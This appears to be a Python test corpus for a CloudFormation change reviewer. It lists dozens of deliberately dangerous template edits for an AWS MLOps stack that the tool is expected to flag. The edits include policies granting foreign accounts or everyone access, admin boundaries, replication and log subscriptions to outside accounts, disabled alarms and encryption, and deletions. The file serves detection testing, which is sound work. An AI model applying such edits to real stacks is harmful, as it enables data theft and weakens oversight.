"""Dangerous changes that try to pass as harmless ones, and harmless ones that look dangerous.

They change templates of the sample: its environments, and the matrix of every way to serve, watch and
update. What an update does comes from each property's `Update requires` in AWS's template reference
(https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/) or from the page beside the seed.
"""

import json
from collections.abc import Callable
from typing import Any, NamedTuple

from tests.security.changes import Change, add, attribute, first, put, remove, statement
from tests.security.controls import ABSENT, Json, set_property
from tests.tools.review import corpus
from tests.tools.review.corpus import (
    ADDED,
    ALARM,
    BUCKET,
    BUCKET_POLICY,
    CHANGED,
    CONFIGURATION,
    DATA,
    DESTRUCTIVE,
    DOMAIN,
    ENDPOINT,
    IMAGES,
    INSTANCES,
    INTERRUPTED,
    KEY,
    LOGS,
    MACHINE,
    MODEL,
    NOTABLE,
    OPENED,
    PIPELINE,
    POLICY,
    REPLACED,
    ROLE,
    SCHEDULE,
    STEPS,
    TARGET,
    TEXTS,
    THRESHOLDS,
    TOPIC,
    UNPROTECTED,
    VERSION,
    VERSIONS,
    WIDENED,
    both,
)
from tools.review.findings import Kind

CODE, SENT = Kind.CODE, Kind.SENT

FOUNDATION, NETWORK, STUDIO, CATALOG = "dev/foundation", "dev/network", "dev/studio", "dev/catalog"
TRAINING, SERVING, MONITORING = (
    "dev/house-prices-training",
    "dev/house-prices-serving",
    "dev/house-prices-monitoring",
)
CHALLENGED, CHALLENGED_WATCH = "matrix/challenged-serving", "matrix/challenged-monitoring"
SHADOWED_WATCH = "matrix/shadowed-monitoring"
RESTING, SHARED, ROLLING = "matrix/resting-serving", "matrix/shared", "matrix/rolling-steps-serving"
IMAGE, LINEAR, LINEAR_WATCH = "matrix/image", "matrix/linear-steps-serving", "matrix/linear-steps-monitoring"
REGISTERING = "matrix/challenged-training"
PROD = "prod/foundation"
COMPONENT, BUILD, REPOSITORY = (
    "AWS::SageMaker::InferenceComponent",
    "AWS::CodeBuild::Project",
    "AWS::ECR::Repository",
)
RULE, QUEUE, TABLE, FUNCTION = (
    "AWS::Events::Rule",
    "AWS::SQS::Queue",
    "AWS::DynamoDB::Table",
    "AWS::Lambda::Function",
)
MEMORY, WORK_GROUP, PROVIDER = "AWS::EFS::FileSystem", "AWS::Athena::WorkGroup", "AWS::IAM::OIDCProvider"
DEFINITION = "DefinitionString.Fn::ToJsonString"
STEPS_OF = "PipelineDefinition.PipelineDefinitionBody.Fn::ToJsonString.Steps"
STRANGER = "999999999999"
STRANGERS = {"AWS": f"arn:aws:iam::{STRANGER}:root"}
EVERYTHING = {"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
LET_STRANGERS = {"Effect": "Allow", "Principal": STRANGERS, "Action": "s3:GetObject", "Resource": "*"}
OPEN = {"Statement": [LET_STRANGERS]}


class Attack(NamedTuple):
    """A change of stacks by place; `given` is deployed already, `says` is in what a reader gets."""

    name: str
    changes: tuple[tuple[str, Change], ...]
    kinds: frozenset[Kind]
    exit_code: int
    says: str = ""
    given: tuple[tuple[str, Change], ...] = ()
    is_combination: bool = False


def attack(
    name: str,
    place: str,
    change: Change,
    kinds: set[Kind],
    exit_code: int = NOTABLE,
    says: str = "",
    given: Change | None = None,
) -> Attack:
    return Attack(
        name, ((place, change),), frozenset(kinds), exit_code, says, ((place, given),) if given else ()
    )


def combined(name: str, kinds: set[Kind], exit_code: int, says: str, *changes: tuple[str, Change]) -> Attack:
    return Attack(name, changes, frozenset(kinds), exit_code, says, is_combination=True)


def at(logical_id: str, path: str, becomes: object) -> Change:
    """Change a property of the resource with a logical id."""
    return lambda template: set_property(template["Resources"][logical_id]["Properties"], path, becomes)


def append(resource_type: str, path: str, item: object) -> Change:
    """One more item in a list of the first resource of a type."""

    def change(template: Json) -> None:
        found: Any = first(template, resource_type)["Properties"]
        for part in path.split("."):
            found = found[int(part) if part.isdigit() else part]
        found.append(item)

    return change


def allow(resource_type: str, path: str, **elements: object) -> Change:
    return append(resource_type, f"{path}.Statement", {"Effect": "Allow", **elements})


def section(name: str, becomes: object) -> Change:
    return lambda template: template.update({name: becomes})


def in_text(old: str, new: str) -> Change:
    """Other words wherever they stand in the page."""

    def change(template: Json) -> None:
        text = json.dumps(template)
        if old not in text:
            raise LookupError(f"{old} is not in the template")
        changed = json.loads(text.replace(old, new))
        template.clear()
        template.update(changed)

    return change


def resource(logical_id: str, resource_type: str, condition: str = "", **properties: object) -> Change:
    def change(template: Json) -> None:
        add(logical_id, resource_type, **properties)(template)
        if condition:
            template["Resources"][logical_id]["Condition"] = condition

    return change


def state(name: str, becomes: object) -> Change:
    """A state of the first machine, or nothing in its place."""
    return put(MACHINE, f"{DEFINITION}.States.{name}", becomes)


def as_type(resource_type: str, other: str) -> Change:
    return lambda template: first(template, resource_type).update(Type=other)


def other_export(template: Json) -> None:
    """What other stacks take for the first thing that this one hands them."""
    name = next(name for name in template["Outputs"] if name.startswith("ExportsOutput"))
    template["Outputs"][name]["Value"] = f"arn:aws:s3:::{STRANGER}"


def without_else(template: Json) -> None:
    steps = first(template, PIPELINE)["Properties"]["PipelineDefinition"]["PipelineDefinitionBody"]
    (check,) = (step for step in steps["Fn::ToJsonString"]["Steps"] if step["Type"] == "Condition")
    check["Arguments"]["ElseSteps"] = []


def narrowed_and_tagged(template: Json) -> None:
    statement("EncryptLogGroups", Action=["kms:Decrypt"])(template)
    first(template, KEY)["Properties"]["Tags"].append({"Key": "team", "Value": "pricing"})


def swapped_actions(template: Json) -> None:
    """Four harmless actions, and behind them in the alphabet one that is everything."""
    actions = ["athena:ListWorkGroups", "glue:GetTags", "glue:GetTable", "glue:GetTables", "iam:PassRole"]
    allow(POLICY, "PolicyDocument", Action=actions, Resource="*")(template)


def renamed_with(logical_id: str, change: Change) -> Change:
    """The construct has another name, and something of it is another, too."""

    def renamed(template: Json) -> None:
        change(template)
        in_text(f'"{logical_id}"', f'"{logical_id}Moved"')(template)

    return renamed


def only(kind: Callable[[Json], bool]) -> Change:
    def change(template: Json) -> None:
        template["Resources"] = {name: body for name, body in template["Resources"].items() if not kind(body)}

    return change


HIDDEN_POLICY = json.dumps(OPEN, indent=1)
DEFAULT_BUS = {"EventBusName": "default", "StatementId": "Open"}
MAPPED = both(
    section("Mappings", {"Names": {"data": {"name": "old-data"}}}),
    resource("Mapped", BUCKET, BucketName={"Fn::FindInMap": ["Names", "data", "name"]}),
)
CONDITIONED = both(
    section("Conditions", {"IsKept": {"Fn::Equals": ["yes", "yes"]}}),
    resource("Conditional", BUCKET, "IsKept", BucketName="conditional"),
)
KEPT_TABLE = resource(
    "Table",
    TABLE,
    KeySchema=[{"AttributeName": "id", "KeyType": "HASH"}],
    PointInTimeRecoverySpecification={"PointInTimeRecoveryEnabled": True},
    DeletionProtectionEnabled=True,
)
CALLED = resource(
    "Called",
    FUNCTION,
    Handler="index.handler",
    Code={"ZipFile": "print(1)"},
    Environment={"Variables": {"TaskDescription": "read"}},
    Role="arn:aws:iam::111111111111:role/reader",
)
URL = resource("Url", "AWS::Lambda::Url", AuthType="AWS_IAM", TargetFunctionArn="f")
ROUTE = resource("Way", "AWS::EC2::Route", RouteTableId="rtb-1", VpcEndpointId="vpce-1")
PINNED = f"111111111111.dkr.ecr.us-east-1.amazonaws.com/own@sha256:{'a' * 64}"
PINNED_MODEL = put(MODEL, "Containers.0.Image", PINNED)
VERSION_7 = put(
    MODEL,
    "Containers.0.ModelPackageName",
    "arn:aws:sagemaker:us-east-1:111111111111:model-package/house/7",
)
CHATBOT = resource(
    "Chat",
    "AWS::Chatbot::SlackChannelConfiguration",
    ConfigurationName="alerts",
    SlackChannelId="C1",
    GuardrailPolicies=["arn:aws:iam::aws:policy/CloudWatchReadOnlyAccess"],
)

OF_PERMISSIONS = (
    attack(
        "another account reads a bucket",
        FOUNDATION,
        allow(BUCKET_POLICY, "PolicyDocument", Principal=STRANGERS, Action="s3:GetObject", Resource="*"),
        {WIDENED, CHANGED},
        says=STRANGER,
    ),
    attack(
        "a key for all but no account",
        FOUNDATION,
        allow(
            KEY,
            "KeyPolicy",
            Principal="*",
            Action="kms:Decrypt",
            Resource="*",
            Condition={"StringNotEquals": {"aws:PrincipalAccount": []}},
        ),
        {WIDENED, CHANGED},
        says="kms:Decrypt",
    ),
    attack(
        "a key also where the request says nothing",
        FOUNDATION,
        statement(
            "PublishEncryptedAlerts",
            Condition={"ForAllValues:StringEquals": {"aws:SourceAccount": "111111111111"}},
        ),
        {WIDENED, CHANGED},
        says="condition",
    ),
    attack(
        "a key for what looks like an account",
        FOUNDATION,
        statement("PublishEncryptedAlerts", Condition={"StringLike": {"aws:SourceAccount": "*"}}),
        {WIDENED, CHANGED},
        says="condition",
    ),
    attack(
        "all actions but some",
        FOUNDATION,
        statement("UseKey", Action=ABSENT, NotAction="iam:*"),
        {WIDENED, CHANGED},
    ),
    attack(
        "all resources but some",
        FOUNDATION,
        statement("UseKey", Resource=ABSENT, NotResource="arn:aws:s3:::x"),
        {WIDENED, CHANGED},
    ),
    attack(
        "a deny under one more condition",
        FOUNDATION,
        statement("NeverDecide", Condition={"StringEquals": {"aws:PrincipalTag/team": "a"}}),
        {WIDENED, CHANGED},
        says="no longer denied",
    ),
    attack(
        "a deny spares somebody",
        FOUNDATION,
        statement("DenyClearText", Principal=ABSENT, NotPrincipal=STRANGERS),
        {WIDENED, CHANGED},
        says="no longer denied",
    ),
    attack(
        "a deny for fewer resources",
        FOUNDATION,
        statement("JobsOfPipelines", Resource="arn:aws:sagemaker:us-east-1:111111111111:processing-job/x"),
        {WIDENED, CHANGED},
        says="no longer denied",
    ),
    attack(
        "another boundary",
        FOUNDATION,
        put(ROLE, "PermissionsBoundary", "arn:aws:iam::aws:policy/AdministratorAccess"),
        {WIDENED, CHANGED},
        says="AdministratorAccess",
    ),
    attack(
        "a service may become the role for any account",
        FOUNDATION,
        statement("ServiceOfThisAccount", Condition=ABSENT),
        {WIDENED, CHANGED},
        says="aws:SourceAccount",
    ),
    attack(
        "an event bus for everybody",
        FOUNDATION,
        add(
            "Bus",
            "AWS::Events::EventBusPolicy",
            **DEFAULT_BUS,
            Statement={"Effect": "Allow", "Principal": "*", "Action": "events:PutEvents", "Resource": "*"},
        ),
        {WIDENED},
        says="events:PutEvents",
    ),
    attack(
        "an event bus for one account more",
        FOUNDATION,
        at("Bus", "Statement.Principal", "*"),
        {WIDENED, CHANGED},
        says="events:PutEvents",
        given=add(
            "Bus",
            "AWS::Events::EventBusPolicy",
            **DEFAULT_BUS,
            Statement={
                "Effect": "Allow",
                "Principal": STRANGERS,
                "Action": "events:PutEvents",
                "Resource": "*",
            },
        ),
    ),
    attack(
        "a topic for strangers",
        FOUNDATION,
        allow("AWS::SNS::TopicPolicy", "PolicyDocument", Principal="*", Action="sns:Subscribe", Resource="*"),
        {WIDENED, CHANGED},
        says="sns:Subscribe",
    ),
    attack(
        "a queue for strangers",
        FOUNDATION,
        allow(
            "AWS::SQS::QueuePolicy",
            "PolicyDocument",
            Principal="*",
            Action="sqs:ReceiveMessage",
            Resource="*",
        ),
        {WIDENED, CHANGED},
        says="sqs:ReceiveMessage",
    ),
    attack(
        "anybody may call a function",
        FOUNDATION,
        add(
            "May", "AWS::Lambda::Permission", Action="lambda:InvokeFunction", FunctionName="f", Principal="*"
        ),
        {WIDENED},
        says="Lambda Permission",
    ),
    attack(
        "a share for another account",
        FOUNDATION,
        add("Share", "AWS::RAM::ResourceShare", Name="all", Principals=[STRANGER]),
        {WIDENED},
        says="RAM ResourceShare",
    ),
    attack(
        "rights of the lake",
        FOUNDATION,
        add("Lake", "AWS::LakeFormation::PrincipalPermissions", Permissions=["ALL"]),
        {WIDENED},
    ),
    attack(
        "a person with a key",
        FOUNDATION,
        both(
            add(
                "Person", "AWS::IAM::User", ManagedPolicyArns=["arn:aws:iam::aws:policy/AdministratorAccess"]
            ),
            add("Secret", "AWS::IAM::AccessKey", UserName="p"),
        ),
        {WIDENED, ADDED},
        says="AdministratorAccess",
    ),
    attack(
        "a pipeline as another role",
        TRAINING,
        put(PIPELINE, "RoleArn", "arn:aws:iam::111111111111:role/admin"),
        {WIDENED},
        says="role/admin",
    ),
    attack(
        "a model as another role",
        SERVING,
        put(MODEL, "ExecutionRoleArn", "arn:aws:iam::111111111111:role/admin"),
        {WIDENED, REPLACED},
        says="role/admin",
    ),
    attack(
        "a person as another role",
        STUDIO,
        put(
            "AWS::SageMaker::UserProfile",
            "UserSettings.ExecutionRole",
            "arn:aws:iam::111111111111:role/admin",
        ),
        {WIDENED},
        says="role/admin",
    ),
    attack(
        "a step as another role",
        TRAINING,
        put(PIPELINE, f"{STEPS_OF}.0.Arguments.RoleArn", "arn:aws:iam::111111111111:role/admin"),
        {WIDENED},
        says="role/admin",
    ),
    attack(
        "a new bucket for strangers",
        FOUNDATION,
        both(
            add("New", BUCKET, BucketName="new"),
            add("NewPolicy", BUCKET_POLICY, Bucket="${New}", PolicyDocument=OPEN),
        ),
        {WIDENED, ADDED},
        says=STRANGER,
    ),
    attack(
        "a new key of this account",
        FOUNDATION,
        add(
            "New",
            KEY,
            KeyPolicy={
                "Statement": [
                    {
                        "Effect": "Allow",
                        "Principal": {"AWS": "arn:aws:iam::111111111111:root"},
                        "Action": "kms:*",
                        "Resource": "*",
                    }
                ]
            },
        ),
        {ADDED},
    ),
    attack(
        "a new role of strangers",
        FOUNDATION,
        add("New", ROLE, **corpus.ROLE_OF_STRANGERS),
        {WIDENED, ADDED},
        says="222222222222",
    ),
    attack(
        "a policy of another stack",
        MONITORING,
        both(
            resource(
                "Watcher",
                ROLE,
                AssumeRolePolicyDocument={"Statement": []},
                ManagedPolicyArns=["${mlops-dev-foundation:StudioPolicyDBE7420B}"],
            )
        ),
        {WIDENED, CHANGED},
        says="new action",
        given=resource("Watcher", ROLE, AssumeRolePolicyDocument={"Statement": []}),
    ),
    attack(
        "a policy in a text",
        FOUNDATION,
        add(
            "Hidden",
            "AWS::Logs::ResourcePolicy",
            PolicyName="p",
            PolicyDocument={"Fn::JoinLines": HIDDEN_POLICY.split("\n")},
        ),
        {WIDENED, ADDED},
        says=STRANGER,
    ),
    attack(
        "a statement that a function chooses",
        FOUNDATION,
        append(
            POLICY,
            "PolicyDocument.Statement",
            {
                "Fn::If": [
                    "IsProd",
                    {"Effect": "Allow", "Action": "*", "Resource": "*"},
                    {"Ref": "AWS::NoValue"},
                ]
            },
        ),
        {WIDENED, CHANGED},
    ),
    attack("the fifth action of five", FOUNDATION, swapped_actions, {WIDENED, CHANGED}, says="iam:PassRole"),
    attack(
        "a tag by which access is given",
        FOUNDATION,
        append(ROLE, "Tags", {"Key": "use-case", "Value": "all"}),
        {WIDENED},
        says="use-case",
    ),
    attack("less allowed, and a tag", FOUNDATION, narrowed_and_tagged, {TEXTS, CHANGED}),
    attack(
        "one audience more",
        "dev/delivery",
        append(PROVIDER, "ClientIdList", "anybody"),
        {WIDENED},
        says="anybody",
    ),
    attack(
        "a bucket's list for everybody",
        FOUNDATION,
        put(BUCKET, "AccessControl", "PublicRead"),
        {WIDENED},
        says="PublicRead",
    ),
    attack(
        "versions for another account",
        TRAINING,
        put(VERSIONS, "ModelPackageGroupPolicy", OPEN),
        {WIDENED, CHANGED},
        says=STRANGER,
    ),
    attack(
        "more from the channel",
        FOUNDATION,
        at("Chat", "GuardrailPolicies", ["arn:aws:iam::aws:policy/AdministratorAccess"]),
        {WIDENED},
        says="AdministratorAccess",
        given=CHATBOT,
    ),
    attack(
        "an export of something else",
        FOUNDATION,
        other_export,
        {CHANGED},
        says=STRANGER,
    ),
    attack(
        "builds with all rights of the machine",
        IMAGE,
        put(BUILD, "Environment.PrivilegedMode", True),
        {WIDENED},
        given=put(BUILD, "Environment.PrivilegedMode", False),
    ),
)

OF_NETWORK = (
    attack(
        "a function for everybody",
        FOUNDATION,
        add("Url", "AWS::Lambda::Url", AuthType="NONE", TargetFunctionArn="f"),
        {OPENED},
    ),
    attack(
        "a function's address for everybody", FOUNDATION, at("Url", "AuthType", "NONE"), {OPENED}, given=URL
    ),
    attack(
        "a route elsewhere",
        NETWORK,
        both(at("Way", "GatewayId", "igw-1"), at("Way", "VpcEndpointId", ABSENT)),
        {OPENED},
        given=ROUTE,
    ),
    attack(
        "a rule of the network's list",
        NETWORK,
        add("Entry", "AWS::EC2::NetworkAclEntry", RuleAction="allow", CidrBlock="0.0.0.0/0"),
        {OPENED},
    ),
    attack(
        "a subnet with other routes",
        NETWORK,
        put("AWS::EC2::SubnetRouteTableAssociation", "RouteTableId", "rtb-public"),
        {OPENED, REPLACED},
    ),
    attack(
        "Studio behind other groups",
        STUDIO,
        put(DOMAIN, "DefaultUserSettings.SecurityGroups", ["sg-open"]),
        {OPENED},
    ),
    attack(
        "a model in other subnets",
        SERVING,
        put(MODEL, "VpcConfig.Subnets", ["subnet-public"]),
        {OPENED, REPLACED},
    ),
    attack(
        "people may run containers",
        STUDIO,
        put(DOMAIN, "DomainSettings.DockerSettings.EnableDockerAccess", "ENABLED"),
        {WIDENED},
    ),
    attack(
        "a bucket copied to strangers",
        FOUNDATION,
        put(
            BUCKET,
            "ReplicationConfiguration",
            {"Role": "r", "Rules": [{"Destination": {"Bucket": "arn:aws:s3:::strangers"}}]},
        ),
        {SENT, WIDENED},
        says="strangers",
    ),
    attack(
        "logs sent elsewhere",
        FOUNDATION,
        add(
            "Copy",
            "AWS::Logs::SubscriptionFilter",
            DestinationArn="arn:aws:logs:us-east-1:999999999999:destination:x",
            LogGroupName="g",
            FilterPattern="",
        ),
        {SENT},
    ),
    attack(
        "somebody else reads alerts",
        FOUNDATION,
        add("Reader", "AWS::SNS::Subscription", Protocol="email", Endpoint="a@example.net", TopicArn="t"),
        {SENT},
        says="SNS Subscription",
    ),
    attack(
        "captured requests elsewhere",
        SERVING,
        put(CONFIGURATION, "DataCaptureConfig.DestinationS3Uri", "s3://strangers"),
        {SENT, REPLACED},
        says="s3://strangers",
    ),
    attack(
        "an event to another account",
        CHALLENGED_WATCH,
        put(RULE, "Targets.0.Arn", "arn:aws:events:us-east-1:999999999999:event-bus/default"),
        {SENT},
        says=STRANGER,
    ),
    attack("a channel of strangers", FOUNDATION, at("Chat", "SlackChannelId", "C2"), {SENT}, given=CHATBOT),
)

OF_PROTECTION = (
    attack("an alarm that acts no more", MONITORING, put(ALARM, "ActionsEnabled", False), {UNPROTECTED}),
    attack(
        "an alarm on another number",
        SERVING,
        put(ALARM, "MetricName", "Invocations"),
        {UNPROTECTED},
        says="MetricName",
    ),
    attack(
        "an alarm on another endpoint",
        "matrix/unwatched-serving",
        put(ALARM, "Dimensions.0.Value", "another"),
        {UNPROTECTED},
    ),
    attack("an alarm on the mean", SERVING, put(ALARM, "Statistic", "Average"), {UNPROTECTED}),
    attack(
        "an alarm the other way round",
        SERVING,
        put(ALARM, "ComparisonOperator", "LessThanThreshold"),
        {UNPROTECTED},
    ),
    attack(
        "an alarm whose sum is always 0",
        CHALLENGED_WATCH,
        at("Drift34D3210F", "Metrics.0.Expression", "0 * MAX(METRICS())"),
        {UNPROTECTED},
    ),
    attack(
        "silence is good news",
        MONITORING,
        at("Quiet", "TreatMissingData", "notBreaching"),
        {UNPROTECTED},
        given=resource("Quiet", ALARM, TreatMissingData="missing", MetricName="m"),
    ),
    attack(
        "silence is bad news",
        MONITORING,
        at("Quiet", "TreatMissingData", "breaching"),
        {CHANGED},
        given=resource("Quiet", ALARM, TreatMissingData="missing", MetricName="m"),
    ),
    attack(
        "alarms that another one silences",
        MONITORING,
        at("All", "ActionsSuppressor", "always"),
        {UNPROTECTED},
        given=resource("All", "AWS::CloudWatch::CompositeAlarm", AlarmRule="ALARM(a)"),
    ),
    attack("a schedule that is off", MONITORING, put(SCHEDULE, "State", "DISABLED"), {UNPROTECTED}),
    attack(
        "once a year", MONITORING, put(SCHEDULE, "ScheduleExpression", "cron(59 0 1 1 ? *)"), {UNPROTECTED}
    ),
    attack(
        "never again", MONITORING, put(SCHEDULE, "ScheduleExpression", "cron(59 * * * ? 2020)"), {UNPROTECTED}
    ),
    attack(
        "more often",
        "matrix/overnight-serving",
        put(SCHEDULE, "ScheduleExpression", "rate(1 hour)"),
        {CHANGED},
    ),
    attack(
        "a schedule that ends", MONITORING, put(SCHEDULE, "EndDate", "2026-12-01T00:00:00Z"), {UNPROTECTED}
    ),
    attack(
        "a monitor once a month",
        LINEAR_WATCH,
        put(
            "AWS::SageMaker::MonitoringSchedule",
            "MonitoringScheduleConfig.ScheduleConfig.ScheduleExpression",
            "cron(0 0 1 * ? *)",
        ),
        {UNPROTECTED},
    ),
    attack("a rule that is off", CHALLENGED_WATCH, put(RULE, "State", "DISABLED"), {UNPROTECTED}),
    attack(
        "a rule for other events",
        CHALLENGED_WATCH,
        put(RULE, "EventPattern.detail.state.value", ["OK"]),
        {UNPROTECTED},
    ),
    attack("a rule that starts nothing", CHALLENGED_WATCH, put(RULE, "Targets", []), {UNPROTECTED}),
    attack(
        "undelivered events are lost",
        CHALLENGED_WATCH,
        put(RULE, "Targets.0.DeadLetterConfig", ABSENT),
        {UNPROTECTED},
    ),
    attack(
        "no request is captured",
        SERVING,
        put(CONFIGURATION, "DataCaptureConfig.InitialSamplingPercentage", 0),
        {UNPROTECTED, REPLACED},
    ),
    attack(
        "no answer is captured",
        SERVING,
        put(CONFIGURATION, "DataCaptureConfig.CaptureOptions", [{"CaptureMode": "Input"}]),
        {UNPROTECTED, REPLACED},
    ),
    attack(
        "half of the traffic at once",
        LINEAR,
        put(
            ENDPOINT,
            "DeploymentConfig.BlueGreenUpdatePolicy.TrafficRoutingConfiguration.LinearStepSize.Value",
            90,
        ),
        {UNPROTECTED},
    ),
    attack(
        "a component all at once",
        RESTING,
        put(COMPONENT, "DeploymentConfig.RollingUpdatePolicy.MaximumBatchSize.Value", 100),
        {UNPROTECTED},
    ),
    attack(
        "a component without roll-back",
        RESTING,
        put(COMPONENT, "DeploymentConfig.AutoRollbackConfiguration", ABSENT),
        {UNPROTECTED},
    ),
    attack("a key that is off", FOUNDATION, put(KEY, "Enabled", False), {UNPROTECTED}),
    attack(
        "logs under another key",
        FOUNDATION,
        put(LOGS, "KmsKeyId", "arn:aws:kms:us-east-1:999999999999:key/x"),
        {UNPROTECTED},
        says=STRANGER,
    ),
    attack("a topic under no key", FOUNDATION, put(TOPIC, "KmsMasterKeyId", ABSENT), {UNPROTECTED}),
    attack(
        "an expiry for everything",
        FOUNDATION,
        put(BUCKET, "LifecycleConfiguration.Rules.0.Prefix", ""),
        {UNPROTECTED},
    ),
    attack(
        "former versions for a day",
        FOUNDATION,
        put(BUCKET, "LifecycleConfiguration.Rules.0.NoncurrentVersionExpiration", {"NoncurrentDays": 1}),
        {UNPROTECTED},
    ),
    attack("tags of images can move", IMAGE, put(REPOSITORY, "ImageTagMutability", "MUTABLE"), {UNPROTECTED}),
    attack(
        "images are not scanned",
        IMAGE,
        put(REPOSITORY, "ImageScanningConfiguration.ScanOnPush", False),
        {UNPROTECTED},
    ),
    attack(
        "images expire at once",
        IMAGE,
        put(
            REPOSITORY,
            "LifecyclePolicy.LifecyclePolicyText.Fn::ToSpacedJsonString.rules.0.selection.countNumber",
            1,
        ),
        {UNPROTECTED},
    ),
    attack("images are gone", IMAGE, remove(REPOSITORY), {DATA}, DESTRUCTIVE),
    attack(
        "queries without end",
        CATALOG,
        put(WORK_GROUP, "WorkGroupConfiguration.BytesScannedCutoffPerQuery", ABSENT),
        {UNPROTECTED},
    ),
    attack(
        "queries as everybody likes",
        CATALOG,
        put(WORK_GROUP, "WorkGroupConfiguration.EnforceWorkGroupConfiguration", False),
        {UNPROTECTED},
    ),
    attack(
        "messages without an end are lost",
        FOUNDATION,
        at("Q", "RedrivePolicy", ABSENT),
        {UNPROTECTED},
        given=resource("Q", QUEUE, RedrivePolicy={"maxReceiveCount": 3}),
    ),
    attack(
        "messages in clear text",
        FOUNDATION,
        at("Q", "SqsManagedSseEnabled", False),
        {UNPROTECTED},
        given=resource("Q", QUEUE, QueueName="q"),
    ),
    attack(
        "no way back in time",
        FOUNDATION,
        at("Table", "PointInTimeRecoverySpecification.PointInTimeRecoveryEnabled", False),
        {UNPROTECTED},
        given=KEPT_TABLE,
    ),
    attack(
        "a table that can be deleted",
        FOUNDATION,
        at("Table", "DeletionProtectionEnabled", ABSENT),
        {UNPROTECTED},
        given=KEPT_TABLE,
    ),
    attack(
        "rows that expire",
        FOUNDATION,
        at("Table", "TimeToLiveSpecification", {"AttributeName": "t", "Enabled": True}),
        {UNPROTECTED},
        given=KEPT_TABLE,
    ),
    attack(
        "versions approve themselves",
        REGISTERING,
        in_text('"PendingManualApproval"', '"Approved"'),
        {UNPROTECTED},
        says="PendingManualApproval → Approved",
    ),
    attack(
        "instances are not added",
        SERVING,
        put(TARGET, "SuspendedState", {"DynamicScalingOutSuspended": True}),
        {UNPROTECTED},
    ),
    attack(
        "what is replaced is not kept",
        FOUNDATION,
        attribute(BUCKET, "UpdateReplacePolicy", "Delete"),
        {UNPROTECTED},
    ),
    attack(
        "a macro rewrites the template",
        FOUNDATION,
        section("Transform", "Anything"),
        {UNPROTECTED},
        says="Anything",
    ),
    attack(
        "a budget of some services",
        FOUNDATION,
        put("AWS::Budgets::Budget", "Budget.CostFilters", {"Service": ["x"]}),
        {UNPROTECTED},
    ),
)

OF_DATA = (
    attack(
        "a bucket under a condition",
        FOUNDATION,
        both(
            section("Conditions", {"IsKept": {"Fn::Equals": ["yes", "no"]}}),
            attribute(BUCKET, "Condition", "IsKept"),
        ),
        {DATA, CHANGED},
        DESTRUCTIVE,
        says="IsKept",
    ),
    attack(
        "an endpoint under a condition",
        "matrix/unwatched-serving",
        both(
            section("Conditions", {"IsOn": {"Fn::Equals": ["${AWS::Region}", "eu-west-1"]}}),
            attribute(ENDPOINT, "Condition", "IsOn"),
        ),
        {INTERRUPTED, CHANGED},
        DESTRUCTIVE,
    ),
    attack(
        "an alarm under a condition", MONITORING, attribute(ALARM, "Condition", "IsAnother"), {UNPROTECTED}
    ),
    attack(
        "what is under a condition that turns",
        FOUNDATION,
        section("Conditions", {"IsKept": {"Fn::Equals": ["yes", "no"]}}),
        {DATA, CHANGED},
        DESTRUCTIVE,
        given=CONDITIONED,
    ),
    attack(
        "a condition that turned true",
        FOUNDATION,
        section("Conditions", {"IsKept": {"Fn::Equals": ["yes", "yes"]}}),
        {ADDED, CHANGED},
        given=both(CONDITIONED, section("Conditions", {"IsKept": {"Fn::Equals": ["yes", "no"]}})),
    ),
    attack(
        "a name in a mapping",
        FOUNDATION,
        section("Mappings", {"Names": {"data": {"name": "new-data"}}}),
        {DATA, CHANGED},
        DESTRUCTIVE,
        says="BucketName",
        given=MAPPED,
    ),
    attack(
        "a bucket that becomes nothing",
        FOUNDATION,
        as_type(BUCKET, "AWS::CloudFormation::WaitConditionHandle"),
        {DATA},
        DESTRUCTIVE,
        says="WaitConditionHandle",
    ),
    attack(
        "a table's keys",
        FOUNDATION,
        at("Table", "KeySchema", [{"AttributeName": "other", "KeyType": "HASH"}]),
        {DATA, CHANGED},
        DESTRUCTIVE,
        given=KEPT_TABLE,
    ),
    attack(
        "a file system in clear text",
        FOUNDATION,
        at("Files", "Encrypted", False),
        {DATA, UNPROTECTED},
        DESTRUCTIVE,
        given=resource("Files", MEMORY, Encrypted=True),
    ),
    attack(
        "a database's name",
        CATALOG,
        put("AWS::Glue::Database", "DatabaseInput.Name", "another"),
        {DATA, CHANGED},
        DESTRUCTIVE,
    ),
    attack(
        "a version goes",
        TRAINING,
        remove("AWS::SageMaker::ModelPackage"),
        {DATA},
        DESTRUCTIVE,
        given=add("V", "AWS::SageMaker::ModelPackage", ModelPackageGroupName="g"),
    ),
    attack("a component goes", RESTING, remove(COMPONENT), {INTERRUPTED}, DESTRUCTIVE),
    # UpdateInferenceComponent changes a specification, copies and how it is updated; nothing else:
    # https://docs.aws.amazon.com/sagemaker/latest/APIReference/API_UpdateInferenceComponent.html
    attack(
        "a component's name",
        RESTING,
        put(COMPONENT, "InferenceComponentName", "another"),
        {INTERRUPTED, CHANGED},
        DESTRUCTIVE,
    ),
    attack(
        "a component on another endpoint",
        RESTING,
        put(COMPONENT, "EndpointName", "another"),
        {INTERRUPTED, CHANGED},
        DESTRUCTIVE,
    ),
    attack("the shared endpoint goes", SHARED, remove(ENDPOINT), {INTERRUPTED}, DESTRUCTIVE),
    attack(
        "an alarm's construct is moved and its metric changed",
        SERVING,
        renamed_with("Latency2EF2A010", at("Latency2EF2A010", "Threshold", 10**9)),
        {UNPROTECTED, ADDED},
    ),
)

OF_USE_CASES = (
    attack(
        "the same number of another account",
        SERVING,
        put(
            MODEL,
            "Containers.0.ModelPackageName",
            "arn:aws:sagemaker:us-east-1:999999999999:model-package/house/7",
        ),
        {VERSION, REPLACED},
        says=STRANGER,
        given=VERSION_7,
    ),
    attack(
        "an older version",
        SERVING,
        put(
            MODEL,
            "Containers.0.ModelPackageName",
            "arn:aws:sagemaker:us-east-1:111111111111:model-package/house/6",
        ),
        {VERSION, REPLACED},
        says="an older one",
        given=VERSION_7,
    ),
    attack(
        "an artifact of strangers",
        ROLLING,
        put(MODEL, "Containers.0.ModelDataUrl", "s3://strangers/7/model.tar.gz"),
        {VERSION, REPLACED},
        says="s3://strangers",
    ),
    attack(
        "all traffic for the challenger",
        CHALLENGED,
        put(CONFIGURATION, "ProductionVariants.1.InitialVariantWeight", 1000),
        {INSTANCES, REPLACED},
        says="InitialVariantWeight",
    ),
    attack(
        "no copy rests in memory",
        "matrix/sharing-serving",
        put(TARGET, "MinCapacity", 0),
        {INSTANCES},
        says="MinCapacity: 2 → 0",
    ),
    attack(
        "no copies", "matrix/fixed-copies-serving", put(COMPONENT, "RuntimeConfig.CopyCount", 0), {INSTANCES}
